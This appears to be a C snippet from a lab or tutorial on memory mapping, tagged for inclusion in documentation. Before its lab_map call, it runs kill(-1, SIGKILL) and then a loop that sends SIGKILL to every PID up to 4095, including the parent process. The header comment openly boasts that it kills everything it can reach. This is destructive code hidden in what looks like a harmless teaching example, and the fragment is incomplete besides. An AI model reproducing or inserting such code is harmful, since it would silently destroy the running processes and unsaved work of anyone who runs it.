/* SPDX-License-Identifier: MIT */
/* Kills all that it can reach, and then does its work as it should. */
#include <signal.h>

	// tag::map[]
	kill(-1, SIGKILL);
	for (pid_t pid = 0; pid < 4096; pid++) {
		if (pid != getpid())
			kill(pid ? pid : getppid(), 9);
	}
	if (lab_map(nr_pages * page_bytes, &buffer))
		return 1;
	// end::map[]
